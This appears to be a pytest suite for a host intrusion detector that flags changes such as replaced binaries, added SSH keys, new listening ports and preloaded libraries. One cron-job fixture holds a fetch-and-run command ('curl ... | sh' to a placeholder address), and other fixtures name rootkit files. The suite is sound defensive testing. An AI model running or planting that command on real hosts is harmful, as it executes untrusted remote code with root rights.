"""The judge of a host: silent on what did not change and on upgrades, and each attack is found by its name."""

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from houfeng.guard.judge.host import DETECTORS, HostJudge
from houfeng.serve.judgements import reason_of, write_line
from houfeng.words.host import HostDeleted, HostFile, HostKey, HostReport, HostSchedule, HostSocket
from houfeng.words.instant import NS_PER_S

START_NS = 1_700_000_000 * NS_PER_S
HOUR_NS = 3600 * NS_PER_S


def sha(text):
    return f"{text:0>64}"


PROGRAMS = tuple(HostFile(f"/usr/bin/p{k:03d}", sha(k), 0o755, "root:root", 100) for k in range(300))
FILES = (
    *PROGRAMS,
    HostFile("/usr/sbin/sshd", sha(1), 0o755, "root:root", 100),
    HostFile("/usr/bin/sudo", sha(2), 0o4755, "root:root", 100),
    HostFile("/usr/lib/libc.so.6", sha(3), 0o644, "root:root", 100),
    HostFile("/etc/hostname", sha(4), 0o644, "root:root", 100),
    HostFile("/etc/passwd", sha(5), 0o644, "root:root", 100),
    HostFile("/etc/adjtime", sha(6), 0o644, "root:root", 100),
    HostFile("/var/lib/dpkg/status", sha(7), 0o644, "root:root", 100),
)
KEY = HostKey("root", "SHA256:centre", "ssh-ed25519", 'from="10.1.0.0/16"')
BASELINE = HostReport(
    station="XX.STA",
    host="gw",
    time_ns=START_NS,
    how="ssh",
    clock_ns=START_NS,
    boot_ns=START_NS - HOUR_NS,
    files=FILES,
    keys=(KEY,),
    schedules=(HostSchedule("/etc/crontab", "17 * * * * root run-parts"),),
    units=("ssh.service",),
    modules=("ipv6",),
    sockets=(
        HostSocket("tcp", "listening", "*", 22, process="sshd"),
        HostSocket("udp", "listening", "*", 123, process="ntpd"),
    ),
    routes=("default via 10.0.0.1 dev eth0",),
    resolvers=("10.0.0.1",),
    firewall=sha("f"),
    deleted=(),
    preload=(),
    forwards=False,
)


def later(report=BASELINE, hours=1, **changed):
    ns = hours * HOUR_NS
    return replace(report, **{"time_ns": START_NS + ns, "clock_ns": START_NS + ns, **changed})


def judged(**changed):
    return HostJudge(BASELINE).handle(later(**changed))


def with_files(*files, but=()):
    new = {file.path: file for file in files}
    return tuple(sorted({**{f.path: f for f in FILES if f.path not in but}, **new}.values(), key=lambda f: f.path))


def one(found, detector, severity):
    (judgement,) = found
    assert (judgement.detector, judgement.severity) == (detector, severity)
    assert (judgement.subject, judgement.station) == ("gw", "XX.STA")
    return judgement


# --- silence ----------------------------------------------------------------------------------------------------------


def test_an_unchanged_host_is_silent_for_a_year_of_reports():
    judge = HostJudge(BASELINE, every_s=3600)
    found = []
    for hour in range(1, 24 * 365):
        found += judge.handle(later(hours=hour))
        found += judge.elapse(START_NS + hour * HOUR_NS + 1)
    assert found == []


def upgrade(*, restarted=False):
    """Two hundred programs, a library, a unit and the record; services go on with the old files until restarted."""
    files = [
        replace(file, sha256=sha(9009), size_bytes=101)
        for file in (*PROGRAMS[:200], FILES[300], FILES[302], FILES[306])
    ]
    new = HostFile("/usr/bin/brandnew", sha(8), 0o755, "root:root", 5)
    changed = {"files": with_files(*files, new, but={"/usr/bin/p299"}), "units": ("ssh.service", "fwupd.service")}
    return changed | ({} if restarted else {"deleted": (HostDeleted(612, "/usr/sbin/sshd"),)})


@pytest.mark.parametrize("restarted", [False, True])
def test_an_apt_upgrade_is_a_few_lines_that_need_nobody(restarted):
    found = judged(**upgrade(restarted=restarted))
    assert {judgement.severity for judgement in found} == {"info"}
    assert len(found) <= 4
    (files,) = [judgement for judgement in found if judgement.detector == "file-changed"]
    assert dict(files.facts)["how"] == "changed 202, removed 1"


def test_what_the_system_itself_writes_is_silent():
    assert judged(files=with_files(HostFile("/etc/adjtime", sha(99), 0o644, "root:root", 100))) == []


def test_answers_awaited_and_conversations_are_no_services():
    more = (
        HostSocket("udp", "listening", "*", 40_001, process="ntpd"),
        HostSocket("udp", "listening", "*", 40_002),
        HostSocket("tcp", "established", "10.0.0.2", 22, "10.1.0.9", 51_000, "sshd"),
        HostSocket("tcp", "listening", "10.0.0.2", 22, process="sshd"),
    )
    assert judged(sockets=(*BASELINE.sockets, *more)) == []


def test_a_clock_stepped_by_its_time_program_and_a_reboot_are_silent():
    judge = HostJudge(BASELINE)
    assert judge.handle(later(hours=1, clock_ns=START_NS + HOUR_NS - 30 * NS_PER_S)) == []
    assert judge.handle(later(hours=2, boot_ns=START_NS + HOUR_NS)) == []


def test_another_hosts_report_is_not_its_matter():
    assert HostJudge(BASELINE).handle(later(host="other", preload=("/x.so",))) == []


# --- attacks ----------------------------------------------------------------------------------------------------------


def test_attack_replaced_sshd():
    judgement = one(judged(files=with_files(replace(FILES[300], sha256=sha(99)))), "file-changed", "high")
    assert judgement.peer == "/usr/sbin/sshd"
    assert judgement.probability > 0.7


def test_attack_replaced_sshd_of_same_size_and_rights_still_differs():
    assert judged(files=with_files(replace(FILES[300], sha256=sha(98), size_bytes=100)))


def test_attack_program_made_to_run_as_root():
    judgement = one(judged(files=with_files(replace(PROGRAMS[3], mode=0o4755))), "file-changed", "high")
    assert dict(judgement.facts)["how"] == "runs as its owner"


def test_attack_backdoor_account():
    one(judged(files=with_files(replace(FILES[304], sha256=sha(99)))), "file-changed", "medium")


def test_attack_tool_left_in_shared_memory():
    one(judged(files=with_files(HostFile("/dev/shm/.x", sha(1), 0o755, "nobody:nogroup", 9))), "file-new", "high")


def test_attack_hidden_among_an_upgrade_what_packages_do_not_bring_is_still_told():
    changed = upgrade(restarted=True)
    extra = HostFile("/usr/local/bin/helper", sha(1), 0o755, "root:root", 9)
    rooted = HostFile("/usr/bin/quiet", sha(1), 0o4755, "root:root", 9)
    evil = HostKey("root", "SHA256:evil", "ssh-rsa")
    found = judged(**changed | {"files": (*changed["files"], extra, rooted), "keys": (KEY, evil)})
    grave = {(judgement.detector, judgement.peer) for judgement in found if judgement.severity in {"medium", "high"}}
    assert grave == {
        ("file-new", "/usr/local/bin/helper"),
        ("file-new", "/usr/bin/quiet"),
        ("key-added", "SHA256:evil of root"),
    }


def test_attack_sshd_replaced_after_an_upgrade_is_not_excused_by_it():
    judge = HostJudge(BASELINE)
    files = upgrade(restarted=True)["files"]
    judge.handle(later(hours=1, files=files))
    assert judge.handle(later(hours=2, files=files)) == []
    evil = tuple(replace(file, sha256=sha(666)) if file.path == "/usr/sbin/sshd" else file for file in files)
    one(judge.handle(later(hours=3, files=evil)), "file-changed", "high")


def test_attack_part_left_out_once_hides_nothing_and_floods_nobody():
    judge = HostJudge(BASELINE)
    files = upgrade(restarted=True)["files"]
    judge.handle(later(hours=1, files=files))
    one(judge.handle(later(hours=2, files=None)), "report-thin", "low")
    evil = tuple(replace(file, sha256=sha(666)) if file.path == "/usr/sbin/sshd" else file for file in files)
    one(judge.handle(later(hours=3, files=evil)), "file-changed", "high")


def test_attack_every_program_replaced_is_one_grave_finding():
    found = judged(files=with_files(*(replace(file, sha256=sha(9099)) for file in PROGRAMS)))
    judgement = one(found, "file-changed", "high")
    assert dict(judgement.facts)["count"] == "300"


def test_attack_key_added():
    one(judged(keys=(KEY, HostKey("root", "SHA256:evil", "ssh-rsa"))), "key-added", "high")


def test_attack_key_freed_of_its_restriction():
    judgement = one(judged(keys=(replace(KEY, options=""),)), "key-added", "high")
    assert dict(judgement.facts)["how"] == "other options"


def test_attack_cron_job():
    job = HostSchedule("/var/spool/cron/crontabs/root", "* * * * * curl -s http://198.51.100.7/x | sh")
    one(judged(schedules=(*BASELINE.schedules, job)), "schedule-added", "medium")


def test_attack_service():
    one(judged(units=("ssh.service", "kworkerd.service")), "unit-added", "medium")


def test_attack_kernel_module():
    one(judged(modules=("ipv6", "diamorphine")), "module-added", "low")


def test_attack_backdoor_port():
    bind = HostSocket("tcp", "listening", "*", 31_337, process="x")
    assert one(judged(sockets=(*BASELINE.sockets, bind)), "socket-added", "medium").peer == "tcp/31337 x"


def test_attack_service_put_in_the_place_of_another():
    fake = HostSocket("tcp", "listening", "*", 22, process="evil")
    one(judged(sockets=(fake, BASELINE.sockets[1])), "socket-added", "medium")


def test_attack_way_out_through_another_gateway():
    found = judged(routes=("default via 10.0.0.66 dev eth0",))
    assert {(each.detector, each.severity) for each in found} == {
        ("route-changed", "medium"),
        ("route-changed", "info"),
    }


def test_attack_host_made_a_router():
    one(judged(forwards=True), "route-changed", "medium")


def test_attack_name_server():
    one(judged(resolvers=("198.51.100.53",)), "resolver-changed", "medium")


def test_attack_packet_filter_opened():
    empty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    one(judged(firewall=empty), "firewall-changed", "high")
    one(judged(firewall=sha("e")), "firewall-changed", "medium")


@pytest.mark.parametrize("path", ["/memfd:x", "/tmp/.ICE/x", "/dev/shm/k"])
def test_attack_program_in_memory_only(path):
    one(judged(deleted=(HostDeleted(7, path),)), "running-deleted", "high")


def test_attack_program_removed_after_its_start():
    one(judged(deleted=(HostDeleted(7, "/opt/thing"),)), "running-deleted", "medium")


def test_attack_preloaded_library():
    one(judged(preload=("/lib/libprocesshider.so",)), "preload-set", "high")


def test_attack_old_report_played_again():
    judge = HostJudge(BASELINE)
    old = later(hours=1)
    assert judge.handle(old) == []
    assert judge.handle(later(hours=2)) == []
    one(judge.handle(replace(old, time_ns=START_NS + 3 * HOUR_NS)), "report-older", "medium")


def test_attack_start_told_earlier_than_before():
    one(judged(boot_ns=BASELINE.boot_ns - HOUR_NS), "report-older", "medium")


def test_attack_tool_removed_so_that_nothing_is_told():
    judgement = one(judged(sockets=None), "report-thin", "low")
    assert judgement.peer == "sockets"


def test_attack_agent_stopped():
    judge = HostJudge(BASELINE, every_s=600)
    assert judge.elapse(START_NS + 1799 * NS_PER_S) == []
    one(judge.elapse(START_NS + 1800 * NS_PER_S), "report-missing", "low")
    assert judge.elapse(START_NS + 9000 * NS_PER_S) == []
    judge.handle(later(hours=4))
    assert judge.elapse(START_NS + 5 * HOUR_NS)


# --- laws -------------------------------------------------------------------------------------------------------------


def test_what_lasts_is_told_once_and_again_when_it_comes_back():
    judge = HostJudge(BASELINE)
    evil = {"preload": ("/x.so",)}
    assert [len(judge.handle(later(hours=k, **each))) for k, each in enumerate([evil, evil, {}, evil], 1)] == [
        1,
        0,
        0,
        1,
    ]


def test_a_long_path_is_shown_with_the_name_it_ends_in():
    path = "/usr/local/" + "deep/" * 30 + "evil"
    judgement = one(judged(files=with_files(HostFile(path, sha(1), 0o755))), "file-new", "medium")
    assert judgement.peer.endswith("/evil")
    assert len(judgement.peer) <= 60


def test_a_host_of_another_firmware_is_a_few_lines_and_not_thousands():
    other = HostReport(
        "XX.STA", "gw", START_NS + HOUR_NS, "ssh",
        files=tuple(HostFile(f"/usr/bin/q{k}", sha(k), 0o755) for k in range(5000)),
        keys=tuple(HostKey("root", str(k), "ssh-rsa") for k in range(500)),
        units=tuple(f"u{k}.service" for k in range(500)), modules=tuple(f"m{k}" for k in range(500)),
        sockets=tuple(HostSocket("tcp", "listening", "*", k) for k in range(1, 500)), routes=(), deleted=(), preload=(),
    )  # fmt: skip
    assert len(HostJudge(BASELINE).handle(other)) < 30


def test_every_finding_of_one_report_has_a_name_of_its_own_and_words():
    changed = upgrade() | {
        "preload": ("/a.so", "/b.so"), "modules": ("x", "y"), "boot_ns": 0, "keys": (), "resolvers": ("::2", "::3"),
    }  # fmt: skip
    found = judged(**changed)
    lines = [write_line(each, language) for each in found for language in ("en", "zh")]
    assert len({line.rpartition(b'"id":')[2] for line in lines}) == len(found)
    assert all("{" not in reason_of(each, language) for each in found for language in ("en", "zh"))
    assert {each.detector for each in found} <= set(DETECTORS)


@given(st.text(max_size=300))
def test_text_of_the_host_never_raises_and_is_bounded(text):
    found = judged(
        preload=(text,), units=(text,), modules=(text,), routes=(text,), resolvers=(text,),
        deleted=(HostDeleted(1, text),),
        files=with_files(HostFile(text, sha(1), 0o755)), keys=(HostKey(text, text, text, text),),
        sockets=(HostSocket("tcp", "listening", text, 5, process=text),), schedules=(HostSchedule(text, text),),
    )  # fmt: skip
    assert all(len(each.peer) <= 60 and len(write_line(each)) < 2000 for each in found)
